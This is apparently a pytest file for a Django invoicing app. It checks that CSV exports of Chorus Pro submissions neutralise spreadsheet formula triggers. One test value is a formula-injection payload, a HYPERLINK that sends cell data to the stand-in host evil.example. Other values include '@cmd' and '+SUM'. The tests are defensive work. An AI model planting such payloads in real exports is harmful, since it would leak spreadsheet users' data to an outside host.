"""The submissions CSV never hands a spreadsheet a formula (OWASP CSV injection)."""

import csv
import io

import pytest
from django.urls import reverse

from chorus.models import Submission
from chorus.views import csv_text

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1;"Cliquez")'


@pytest.fixture
def web(client, admin_member):
    client.force_login(admin_member.user)
    return client


def csv_rows(response) -> list[list[str]]:
    text = response.content.decode("utf-8-sig")
    return list(csv.reader(io.StringIO(text), delimiter=";"))


def test_a_customer_named_like_a_formula_is_exported_as_text(web, make_invoice, customer):
    customer.name = HYPERLINK
    customer.save()
    invoice = make_invoice()
    Submission.objects.create(
        dossier=invoice.dossier,
        company=invoice.company,
        invoice=invoice,
        siret=customer.siret,
        status=Submission.Status.FAILED,
        chorus_status="+SUM(1;2)",
        flow_number="@cmd",
        error_message="-2+3 refusé",
    )
    response = web.get(reverse("chorus:submission_list"), {"format": "csv"})
    header, row = csv_rows(response)
    assert row[header.index("Client")] == "'" + HYPERLINK
    assert row[header.index("Statut Chorus Pro")] == "'+SUM(1;2)"
    assert row[header.index("Numéro de flux")] == "'@cmd"
    assert row[header.index("Message d'erreur")] == "'-2+3 refusé"
    assert row[header.index("Société")] == invoice.company.name  # an ordinary name is intact
    assert row[header.index("Statut")] == "Échec"


@pytest.mark.parametrize("first", ["=", "+", "-", "@", "\t", "\r"])
def test_every_formula_trigger_is_neutralised(first):
    assert csv_text(f"{first}1+1") == f"'{first}1+1"


@pytest.mark.parametrize("value", ["", "Mairie de Lyon", "FA2026-00001", "12/03/2026 10:00", "a=b"])
def test_ordinary_text_is_left_alone(value):
    assert csv_text(value) == value
